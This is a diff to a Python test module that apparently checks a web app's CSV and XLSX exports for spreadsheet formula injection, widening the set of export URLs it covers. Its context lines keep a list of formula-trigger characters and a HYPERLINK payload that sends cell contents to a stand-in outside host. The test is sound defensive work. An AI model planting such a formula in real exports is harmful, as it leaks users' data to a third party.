@@ -36,7 +36,7 @@ STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 FORMULA = '=HYPERLINK("//example.org/"&A1,"看")'
 NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
 FILES = re.compile(r"csv|/table/$|^d/import/.*/(copy|template|list)/$")
-SENT = re.compile(r"^/d/(?:shift/|act/)?list\.|^/duty/|^/admin/log/table/")
+SENT = re.compile(r"^/d/(?:shift/|act/|teams/|tasks/)?list\.|^/d/(?:lists|figures)/|^/duty/|^/admin/log/table/")
 """What is asked for by a button and made by a job."""
 TABS = "hand all parked calls tell messages late came up".split()
 BY = {"admin/log/table/": "auditor", "d/import/": "clerk"}
@@ -93,7 +93,8 @@ def exports(world: World, browser: Any) -> dict[str, list[str]]:
         plain = pattern.strip("^$").replace("\\", "").replace("<slug:slug>", "places")
         plain = plain.replace("<uuid:uid>", str(Upload.objects.get().uid))
         plain = plain.replace("(?P<name>list|now)", "now").replace("(?P<slug>wish|talk)", "talk")
-        plain = plain.replace("(?P<slug>[a-z0-9_-]+)", world.profile)
+        plain = plain.replace("(?P<register>[a-z]+)", "venue")
+        plain = plain.replace("(?P<slug>[a-z0-9_-]+)", "volunteering" if "figures" in plain else world.profile)
         forms = [plain.replace("(?P<form>csv|xlsx)", form) for form in ("csv", "xlsx")] if "form" in plain else [plain]
         town = Place.objects.get(profile="dalu") if plain.startswith("talk") else world.town
         queries = [f"tab={tab}&s=any" for tab in TABS] if plain.startswith("d/list") else [f"town={town.uid}"]
